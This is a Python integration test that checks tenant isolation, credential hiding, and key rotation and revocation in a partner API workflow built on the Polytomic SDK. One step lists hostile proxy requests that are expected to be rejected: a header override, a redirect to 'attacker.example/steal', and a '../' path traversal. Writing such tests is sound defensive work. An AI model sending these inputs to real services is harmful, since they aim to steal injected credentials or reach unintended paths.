"""The partner workflow with nothing but the official Polytomic SDK and HTTP: a partner key creates
two customer organizations, a user and a key in each; the owner shares a connection with one of
them, whose user proxies through the copy with the owner's credential (injected, never visible,
not redirectable) while the other customer cannot see it; identity per credential kind, forced
key rotation and revocation over HTTP."""

from __future__ import annotations

import base64
import json

import httpx
import pytest
from polytomic import ConnectionProxyCall, Polytomic
from polytomic.errors import BadRequestError, ForbiddenError, NotFoundError, UnauthorizedError

from conftest import KeyholeServer

from .support import Partner, bootstrap_partner, sdk

TOKEN = "owner-token-SECRET-8c1f"


def test_partner_workflow_end_to_end(server: KeyholeServer, httpbin_url: str, api: httpx.Client) -> None:
    partner: Partner = bootstrap_partner(server, "flow partner", "owner@flow.test")
    as_partner = sdk(server, partner.partner_api_key)

    # 1. Two customer organizations, each with an admin user and that user's key.
    customers = {}
    for name in ("Customer A", "Customer B"):
        organization = as_partner.organization.create(name=name).data
        assert organization is not None and organization.id
        user = as_partner.users.create(
            organization.id, email=f"admin@{name[-1].lower()}.test", role="admin"
        ).data
        assert user is not None and user.id and user.organization_id == organization.id
        key = as_partner.users.create_api_key(organization.id, user.id).data
        assert key is not None and key.value
        customers[name] = (organization.id, user.id, key.value)
    listed = [item.id for item in as_partner.organization.list().data or []]
    assert listed[0] == partner.organization_id
    assert {org_id for org_id, _, _ in customers.values()} <= set(listed)

    # 2. The owner's connection, shared with customer A only.
    owner = sdk(server, partner.keys.user_api_key)
    parent = owner.connections.create(
        name="owner api",
        type="api",
        configuration={"url": httpbin_url, "auth": {"type": "bearer", "token": TOKEN}},
    ).data
    assert parent is not None and parent.id
    a_org, a_user, a_key = customers["Customer A"]
    b_org, _, b_key = customers["Customer B"]
    shared = as_partner.connections.shared_connections.create_shared_connection(
        partner.organization_id, parent.id, child_organization_id=a_org, name="from owner"
    ).data
    assert shared is not None and shared.id and shared.id != parent.id

    # 3. Customer A's user proxies through its copy: the owner's credential goes upstream.
    as_a = sdk(server, a_key)
    reply = as_a.connections.proxy.execute_proxy(
        id=shared.id, request=ConnectionProxyCall(method="GET", path="/bearer")
    ).data
    assert reply is not None and reply.status == 200  # httpbin's /bearer answers 401 without one
    assert json.loads(reply.body or "{}")["authenticated"] is True
    assert TOKEN not in (reply.body or "")
    copy_view = as_a.connections.get(shared.id).data
    assert copy_view is not None and copy_view.parent_connection_id == parent.id
    assert TOKEN not in json.dumps(api.get(f"/api/connections/{shared.id}", headers=_bearer(a_key)).json())
    for hostile in (
        ConnectionProxyCall(method="GET", path="/headers", headers={"Authorization": "Bearer mine"}),
        ConnectionProxyCall(method="GET", path="https://attacker.example/steal"),
        ConnectionProxyCall(method="GET", path="/../../other"),
    ):
        with pytest.raises((BadRequestError, ForbiddenError)):
            as_a.connections.proxy.execute_proxy(id=shared.id, request=hostile)

    # 4. Customer B sees nothing of it.
    as_b = sdk(server, b_key)
    me_b = as_b.identity.get().data
    assert me_b is not None and me_b.organization_id == b_org
    assert shared.id not in [item.id for item in as_b.connections.list().data or []]
    with pytest.raises(NotFoundError):
        as_b.connections.get(shared.id)
    with pytest.raises(NotFoundError):
        as_b.connections.proxy.execute_proxy(
            id=shared.id, request=ConnectionProxyCall(method="GET", path="/get")
        )

    # 5. Listings of the copies: by the owner organization, and by the partner.
    by_owner = owner.connections.shared_connections.list_shared_connections(parent.id).data or []
    by_partner = (
        as_partner.connections.shared_connections.list_shared_connections_for_partner(
            partner.organization_id, parent.id
        ).data
        or []
    )
    assert [item.id for item in by_owner] == [item.id for item in by_partner] == [shared.id]

    # 6. Who is calling, for each kind of credential.
    me = as_a.identity.get().data
    assert me is not None and (me.is_user, me.id, me.organization_id) == (True, a_user, a_org)
    me = as_partner.identity.get().data
    assert (
        me is not None and me.is_partner and not me.is_user and me.organization_id == partner.organization_id
    )
    basic = base64.b64encode(f"{partner.organization_id}:{partner.keys.org_api_key}".encode()).decode()
    as_org = Polytomic(base_url=server.url, headers={"Authorization": f"Basic {basic}"}, max_retries=0)
    me = as_org.identity.get().data
    assert me is not None and me.is_organization and not me.is_user and me.id is None

    # 7. Forced rotation: the old key stops working at once, the new one works.
    rotated = as_partner.users.create_api_key(a_org, a_user, force=True).data
    assert rotated is not None and rotated.value and rotated.value != a_key
    with pytest.raises(UnauthorizedError):
        as_a.identity.get()
    as_a = sdk(server, rotated.value)
    assert as_a.connections.get(shared.id).data is not None

    # 8. Revocation over HTTP, by the key's prefix.
    prefix = rotated.value[:12]
    keys = api.get(f"/api/organizations/{a_org}/keys", params={"prefix": prefix}, headers=partner.bearer)
    assert keys.status_code == 200, keys.text
    [entry] = keys.json()["data"]
    assert rotated.value not in keys.text
    revoked = api.delete(f"/api/organizations/{a_org}/keys/{entry['id']}", headers=partner.bearer)
    assert revoked.status_code in (200, 204), revoked.text
    with pytest.raises(UnauthorizedError):
        as_a.identity.get()


def _bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}
